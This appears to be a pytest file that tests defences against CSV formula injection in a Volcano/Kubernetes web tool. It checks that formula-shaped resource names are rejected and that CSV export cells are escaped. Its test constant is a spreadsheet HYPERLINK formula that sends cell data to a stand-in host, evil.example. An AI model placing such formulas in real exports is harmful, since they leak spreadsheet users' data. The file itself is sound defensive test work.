"""CSV formula injection: a resource named like a spreadsheet formula is refused on every kind that carries
resource lists (as Kubernetes validates resource names: qualified names), and every CSV export writes a text
cell that starts like a formula with a leading ``'``."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from rest_framework.test import APIClient

from tests.volcanoweb import builders
from tests.volcanoweb.builders import job_manifest, queue_manifest, task, to_yaml
from tests.volcanoweb.conftest import Cast, post_yaml
from volcanoweb.audit.models import AuditEntry
from volcanoweb.core.csvsafe import safe_cell, safe_row
from volcanoweb.insights.services import FIELDS, history_csv
from volcanoweb.manifests.fields import qualified_name_problem

pytestmark = pytest.mark.both_databases
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def api(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def documents() -> dict[str, dict[str, Any]]:
    container = {"name": "c", "image": "busybox", "resources": {"requests": {"cpu": "1", EVIL: "1"}}}
    pod_task = task()
    pod_task["template"]["spec"]["containers"][0]["resources"]["requests"][EVIL] = "1"
    return {
        "Job": job_manifest("evil", namespace="team-a", queue="team-a-q", tasks=[pod_task]),
        "Pod": {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "evil", "namespace": "team-a"},
            "spec": {"containers": [container]},
        },
        "Pod limits": {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "evil", "namespace": "team-a"},
            "spec": {"containers": [{**container, "resources": {"limits": {EVIL: "1"}}}]},
        },
        "PodGroup": {
            "apiVersion": "scheduling.volcano.sh/v1beta1",
            "kind": "PodGroup",
            "metadata": {"name": "evil", "namespace": "team-a"},
            "spec": {"minMember": 1, "queue": "team-a-q", "minResources": {EVIL: "1"}},
        },
        "Queue capability": queue_manifest("evil-q", capability={EVIL: "1"}),
        "Queue guarantee": queue_manifest("evil-q", guarantee={EVIL: "1"}),
        "ResourceQuota": {
            "apiVersion": "v1",
            "kind": "ResourceQuota",
            "metadata": {"name": "evil", "namespace": "team-a"},
            "spec": {"hard": {EVIL: "1"}},
        },
    }


@pytest.mark.parametrize("case", sorted(documents()))
def test_a_formula_as_a_resource_name_is_refused(cast: Cast, case: str) -> None:
    builders.make_queue("team-a-q", tenant="team-a")
    audits = AuditEntry.objects.count()
    response = post_yaml(api(cast.root), "/api/v1/apply", to_yaml(documents()[case]))
    assert response.status_code == 400, response.content
    assert "a qualified name must consist of alphanumeric characters" in response.json()["message"]
    assert AuditEntry.objects.count() == audits  # nothing written


@pytest.mark.parametrize(
    "name", ["cpu", "memory", "nvidia.com/gpu", "hugepages-2Mi", "example.com/fpga_x", "requests.cpu", "count/pods"]
)
def test_kubernetes_resource_names_pass(name: str) -> None:
    assert qualified_name_problem(name) is None


@pytest.mark.parametrize("name", [EVIL, "=1+1", "-x", "@a", "a b", "/gpu", "a/b/c", "Example.com/gpu", "x" * 64])
def test_other_names_do_not(name: str) -> None:
    assert qualified_name_problem(name) is not None


def test_cells_that_start_like_a_formula_are_neutralised() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "cpu", "", 5, -5)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "cpu",
        "",
        5,
        -5,
    ]
    assert safe_row(["=a", 1]) == ["'=a", 1]


def test_the_queue_history_csv_neutralises_a_stored_formula() -> None:
    """A resource name stored before the validation (or from a real cluster) is still only text in the export."""
    point = {"time": "2026-12-03T00:00:00Z", "jobs": {"Running": 1}, **{f: {EVIL: 1000, "cpu": 2} for f in FIELDS}}
    body = {"queue": "ml-team", "resources": [EVIL, "cpu"], "points": [point]}
    rows = list(csv.reader(io.StringIO(history_csv(body))))
    assert rows[1][2] == "'" + EVIL
    assert rows[2][2] == "cpu"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
